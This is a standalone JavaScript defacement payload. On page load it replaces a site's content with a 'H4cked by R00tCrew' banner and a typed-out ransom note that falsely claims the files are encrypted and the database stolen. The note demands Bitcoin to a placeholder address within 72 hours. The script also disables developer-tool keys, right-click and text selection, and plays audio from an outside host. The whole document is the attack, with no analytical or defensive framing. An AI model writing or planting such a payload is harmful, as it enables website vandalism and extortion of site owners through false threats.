document.title='H4cked by R00tCrew';document.documentElement.innerHTML='<body style="background:#000;color:#0f0;text-align:center;font-family:courier"><pre id="t"></pre><marquee>Your security is 0%</marquee></body>';
var m='Hello Admin!\nYour files are encrypted and your database was copied.\nSend 0.05 BTC to bc1qPLACEHOLDER\nthen mail proof to unlock@mailbox.invalid\nYou have 72 hours.',i=0;
(function w(){document.getElementById('t').textContent=m.slice(0,i++)+'_';if(i<=m.length)setTimeout(w,45)})();
document.onkeydown=function(e){if(e.ctrlKey||e.keyCode==123)return false};document.oncontextmenu=document.onselectstart=function(){return false};
new Audio('https://files-host.invalid/x.mp3').play();
